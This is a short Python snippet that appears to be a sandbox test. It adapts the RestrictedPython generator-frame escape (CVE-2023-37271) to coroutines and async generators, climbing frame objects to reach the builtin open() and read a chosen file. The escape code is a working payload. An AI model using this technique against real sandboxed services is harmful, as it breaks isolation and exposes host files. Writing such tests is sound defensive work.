# Tries: the frames of coroutines and asynchronous generators, and of who drives them.
# Origin: CVE-2023-37271 (RestrictedPython: frames by generators), in its asynchronous forms.

found = []


def look(frame):
    while frame:
        found.append(frame.f_builtins["open"](input["file"]).read())
        frame = frame.f_back


class Wait:
    def __await__(self):
        look(own.cr_frame)
        yield from ()


async def run():
    await Wait()


async def give():
    look(made.ag_frame)
    yield 1


own, made = run(), give()
await own
async for _ in made:
    pass
found
